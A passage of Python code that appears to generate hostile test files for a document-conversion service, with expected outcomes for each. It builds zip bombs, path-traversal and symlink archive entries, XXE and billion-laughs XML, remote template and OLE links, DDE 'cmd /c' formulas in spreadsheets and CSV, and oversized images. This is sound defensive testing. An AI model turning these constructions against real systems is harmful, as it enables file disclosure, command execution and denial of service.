    return docx(paragraph("visible words"), more=[("word/embeddings/x.zip", inner)])


def lying_sizes():
    """The directory says one byte where 64 MiB come out."""
    data = bytearray(docx(paragraph("visible words"), more=[("word/media/big.xml", b" " * (64 << 20))]))
    for signature, offset, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            if data[at + name_at : at + name_at + 18] == b"word/media/big.xml":
                data[at + offset : at + offset + 4] = struct.pack("<I", 1)
    return bytes(data)


def overlapping_entries():
    """Many names, all for the same compressed bytes."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_bytes = kernel.compress(b"\0" * (8 << 20)) + kernel.flush()
    crc = zlib.crc32(b"\0" * (8 << 20))
    base = io.BytesIO(docx(paragraph("visible words")))
    with zipfile.ZipFile(base) as archive:
        start, members = archive.start_dir, archive.infolist()
    whole = bytearray(base.getvalue()[:start])
    directory = bytearray(base.getvalue()[start:-22])
    place = len(whole)
    whole += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(packed_bytes), 8 << 20, 1, 0) + b"0" + packed_bytes
    for n in range(400):
        name = f"word/media/{n}".encode()
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(packed_bytes), 8 << 20, len(name), 0, 0, 0, 0, 0, place) + name
    count = len(members) + 400
    return bytes(whole + directory + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(whole), 0))


def escaping_names(bait):
    outside = "../" * 12 + bait.script.lstrip("/")
    return docx(paragraph("visible words"), more=[(outside, b"slipped"), (bait.script, b"slipped"), ("..\\..\\" + bait.script.replace("/", "\\"), b"slipped")])


def link_inside(bait, name="word/media/image1.png"):
    link = zipfile.ZipInfo(name)
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return docx(paragraph("visible words"), more=[(link, bait.texts[0])])


def office_cases(bait):
    remote, local, share = bait.url, "file://" + bait.texts[0], "file://127.0.0.1/share/x.png"
    pictures = [("i1", "image", remote + "/docx.png", "External"), ("i2", "image", "file://" + bait.pictures[0], "External"), ("i3", "image", share, "External"),
                ("i4", "image", "../../../../../../.." + bait.pictures[-1], "External")]
    shown = "".join(linked_picture(id) for id, *_ in pictures)
    yield HostileCase("pictures.docx", docx(paragraph("visible words") + shown, pictures), OK, kept="visible words")
    fields = [f'INCLUDETEXT "{bait.texts[0]}"', f'INCLUDEPICTURE "{remote}/field.png" \\d', f'DDEAUTO soffice "{bait.texts[0]}" A1', f'LINK Excel.Sheet "{bait.texts[0]}" A1', f'IMPORT "{bait.texts[0]}"']
    yield HostileCase("fields.docx", docx(paragraph("visible words") + "".join(field(f.replace('"', "&quot;")) for f in fields)), OK, kept="visible words")
    yield HostileCase("template.docx", docx(paragraph("visible words"), settings='<w:attachedTemplate r:id="t"/>', more=[
        ("word/_rels/settings.xml.rels", relations(("t", "attachedTemplate", remote + "/x.dotm", "External")))]), OK, kept="visible words")
    yield HostileCase("chunk.docx", docx(paragraph("visible words") + '<w:altChunk r:id="c1"/><w:altChunk r:id="c2"/><w:subDoc r:id="c3"/>', [
        ("c1", "aFChunk", remote + "/chunk.html", "External"), ("c2", "aFChunk", local, "External"), ("c3", "subDocument", local, "External")]), kept="visible words")
    ole = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" ShapeID="s" DrawAspect="Content" r:id="o1" UpdateMode="Always"/></w:object></w:r></w:p>'
    yield HostileCase("ole.docx", docx(paragraph("visible words") + ole, [("o1", "oleObject", remote + "/ole.doc", "External")]), kept="visible words")
    yield HostileCase("entity.docx", docx(paragraph("&xxe;"), prolog=external_entity(bait.texts[0])), INVALID)
    yield HostileCase("laughs.docx", docx(paragraph("&a9;"), prolog=laughs()), INVALID)
    yield HostileCase("laughs.xlsx", xlsx([], more=[("xl/sharedStrings.xml", XML + laughs() + "<sst><si><t>&a9;</t></si></sst>")]), INVALID)
    book = f'{XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{RELATION}">'
    links = [("e1", "externalLink", "externalLinks/externalLink1.xml"), ("e2", "externalLink", "externalLinks/externalLink2.xml")]
    types = [(f"/xl/externalLinks/externalLink{n}.xml", SHEET_TYPE + ".externalLink") for n in (1, 2)]
    yield HostileCase("links.xlsx", xlsx([f'_xlfn.WEBSERVICE("{remote}/xlsx")', "[1]Sheet1!A1", f'HYPERLINK("{remote}/h")', f"'{local}'#Sheet1!A1", "[2]!'A1'"], links, [
        ("xl/externalLinks/externalLink1.xml", book + '<externalBook r:id="b"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", relations(("b", "externalLinkPath", local, "External"))),
        ("xl/externalLinks/externalLink2.xml", book + f'<ddeLink ddeService="cmd" ddeTopic="/c touch {bait.script}"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>'),
    ], '<externalReferences><externalReference r:id="e1"/><externalReference r:id="e2"/></externalReferences>', types), OK, "csv", kept="visible sheet")
    yield HostileCase("pictures.pptx", pptx(bait))
    for kind, body, kept in (("odt", text_links(bait), "visible text"), ("ods", sheet_links(bait), "visible sheet"), ("odp", page_links(bait), "visible page"), ("odg", page_links(bait), "visible page")):
        to = {"odt": "txt", "ods": "csv"}.get(kind, "pdf")
        yield HostileCase(f"links.{kind}", packed(kind, body), OK, to, kept)
        yield HostileCase(f"links.f{kind}", flat(kind, body), OK, to, kept)
        if kind in ("odt", "ods"):
            yield HostileCase(f"macros.f{kind}", flat(kind, body, macros(bait)), OK, "pdf", kept)
    yield HostileCase("entity.odt", packed("odt", "<text:p>&xxe;</text:p>", prolog=external_entity(bait.texts[0])), INVALID)
    yield HostileCase("entity.fodt", flat("odt", "<text:p>&xxe;</text:p>", prolog=external_entity(bait.texts[0])), INVALID)
    yield HostileCase("laughs.odt", packed("odt", "<text:p>&a9;</text:p>", prolog=laughs()), INVALID)
    yield HostileCase("laughs.fods", flat("ods", "<table:table><table:table-row><table:table-cell><text:p>&a9;</text:p></table:table-cell></table:table-row></table:table>", prolog=laughs()), INVALID)
    yield HostileCase("links.rtf", rtf(bait), OK, "txt", "visible words")
    formula = f'visible cell,"=WEBSERVICE(""{remote}/csv"")","=cmd|\'/c touch {bait.script}\'!A1","=\'{local}\'#$Sheet1.A1","=DDE(""soffice"";""{bait.texts[0]}"";""A1"")"\n'
    yield HostileCase("formulas.csv", formula.encode(), OK, "pdf", "visible cell")
    yield HostileCase("formulas.tsv", formula.replace(",", "\t").encode(), OK, "pdf", "visible cell")


def markup_cases(bait):
    yield HostileCase("all.html", html(bait), OK, "txt", "visible words")
    yield HostileCase("all-laid-out.html", html(bait), OK, "pdf", "visible words")
    yield HostileCase("all.md", markdown(bait), OK, "docx", "visible words")
    yield HostileCase("all-book.md", markdown(bait), OK, "epub", "visible words")
    yield HostileCase("all-page.md", markdown(bait), OK, "html", "visible words")
    yield HostileCase("all.rst", rst(bait), REFUSED, "html")
    yield HostileCase("pictures.rst", rst_harmless(bait), OK, "html", "visible words")
    yield HostileCase("all.tex", tex(bait), EITHER, "html")
    yield HostileCase("all.org", org(bait), EITHER, "html")
    yield HostileCase("all.ipynb", notebook(bait), OK, "html", "visible words")
    yield HostileCase("all.epub", epub(bait), OK, "html", "visible words")
    yield HostileCase("entity.epub", epub(bait, prolog=external_entity(bait.texts[0]), entity="&xxe;"), INVALID, "html")
    yield HostileCase("all.txt", markdown(bait), OK, "html", "visible words")
    yield HostileCase("deep.md", b"> " * 2_000 + b"x\n", frozenset({"completed", "input_too_large", "input_invalid", "out_of_memory", "timed_out", "engine_failed"}), "html")


def picture_cases(bait):
    yield HostileCase("all.svg", svg(bait), EITHER, "png")
    yield HostileCase("entity.svg", svg(bait, external_entity(bait.texts[0]), "&xxe;"), INVALID, "png")
    yield HostileCase("laughs.svg", svg(bait, laughs(), "&a9;"), INVALID, "png")
    yield HostileCase("wide.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"><rect width="9" height="9"/></svg>', TOO_LARGE, "png")
    yield HostileCase("actions.pdf", pdf_actions(bait), OK, "txt", "visible words")
    yield HostileCase("outside.pdf", pdf_outside(bait), OK, "png")
    yield HostileCase("bomb.pdf", pdf_bomb(), frozenset({"completed", "out_of_memory", "input_invalid", "timed_out", "engine_failed", "input_too_large"}), "txt")
    yield HostileCase("poster.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", *pdf_page(box="0 0 14400 14400")]), TOO_LARGE | OK, "png")
    yield HostileCase("pages.pdf", pdf_of_pages(20_000), TOO_LARGE, "png")
    yield HostileCase("pages-read.pdf", pdf_of_pages(20_000), TOO_LARGE, "md")
    for name, data in (("png", png(50_000, 50_000)), ("gif", gif(65_000, 65_000)), ("jpg", jpeg(65_000, 65_000)), ("tiff", tiff(90_000, 90_000)), ("bmp", bmp(60_000, 60_000)),
                       ("webp", webp(1 << 24, 1 << 8)), ("heic", heif(b"heic", 60_000, 60_000)), ("avif", heif(b"avif", 60_000, 60_000))):
        yield HostileCase(f"huge.{name}", data, TOO_LARGE, "png" if name != "png" else "jpg")


def media_cases(bait):
    lists = playlists(bait)
    for extension in ("mp4", "wav", "mp3", "flac", "ogg", "m4a", "webm", "mov", "mkv", "png", "gif", "bmp"):
        yield HostileCase(f"hls.{extension}", lists["hls"].encode(), INVALID)
    for kind in ("concat", "dash", "sdp", "url"):
        yield HostileCase(f"{kind}.mp4", lists[kind].encode(), INVALID)
        yield HostileCase(f"{kind}.mkv", lists[kind].encode(), INVALID)
    # Begins like sound, goes on as a playlist.
    yield HostileCase("both.mp3", b"ID3\x03\0\0\0\0\0\0" + lists["hls"].encode(), REFUSED, "wav")
    yield HostileCase("both.mkv", b"\x1a\x45\xdf\xa3" + lists["hls"].encode(), REFUSED, "mp4")
    yield HostileCase("elsewhere.mov", mov_elsewhere(bait), EITHER, "mp4")
    yield HostileCase("pattern%03d.png", png(2, 2, b"\0" + b"\1" * 6 + b"\0" + b"\1" * 6), OK, "jpg")
    yield HostileCase("elsewhere.m4a", mov_elsewhere(bait), REFUSED | OK, "wav")


def archive_cases(bait):
    yield HostileCase("bomb.docx", zip_bomb(), TOO_LARGE)
    yield HostileCase("entries.docx", many_entries(), TOO_LARGE)
    yield HostileCase("nested.docx", nested_archives(), EITHER)
    yield HostileCase("lying.docx", lying_sizes(), INVALID | TOO_LARGE)
    yield HostileCase("overlap.docx", overlapping_entries(), INVALID | TOO_LARGE)
    yield HostileCase("slip.docx", escaping_names(bait), EITHER)
    yield HostileCase("slip.epub", epub(bait, "../" * 8 + bait.script.lstrip("/")), EITHER, "html")
    yield HostileCase("link.docx", link_inside(bait), EITHER)
    yield HostileCase("link-part.docx", link_inside(bait, "word/footnotes.xml"), EITHER)


def disguised_cases(bait):
    good_docx, good_pdf = docx(paragraph("visible words")), pdf(["<</Type/Catalog/Pages 2 0 R>>", *pdf_page()])
    yield HostileCase("pdf-and-docx.pdf", good_pdf + good_docx, OK, "txt", "visible words")
    yield HostileCase("docx-and-pdf.docx", good_docx + good_pdf, EITHER)
    yield HostileCase("gif-and-archive.gif", gif(1, 1) + good_docx, EITHER, "png")
    yield HostileCase("page.docx", html(bait), INVALID)
    yield HostileCase("drawing.png", svg(bait), INVALID)
    yield HostileCase("drawing.jpg", svg(bait), INVALID)
    yield HostileCase("document.pdf", good_docx, INVALID)
    yield HostileCase("postscript.pdf", b"%!PS\n(" + bait.texts[0].encode() + b") run\n", INVALID)
    yield HostileCase("magick.png", b"push graphic-context\nimage over 0,0 0,0 '" + bait.url.encode() + b"/mvg'\npop graphic-context\n", INVALID)


def random_cases(extensions):
    """Noise under each name, the same in each run."""
    text = {"txt", "html", "md", "rst", "tex", "ipynb", "org", "csv", "tsv"}
    noise = random.Random(9099)
    for extension in extensions:
        yield HostileCase(f"noise.{extension}", b"\x01\xfe" + noise.randbytes(3000), EITHER if extension in text else INVALID)


def cases(bait, extensions):
    for some in (office_cases, markup_cases, picture_cases, media_cases, archive_cases, disguised_cases):
        yield from some(bait)
    yield from random_cases(extensions)
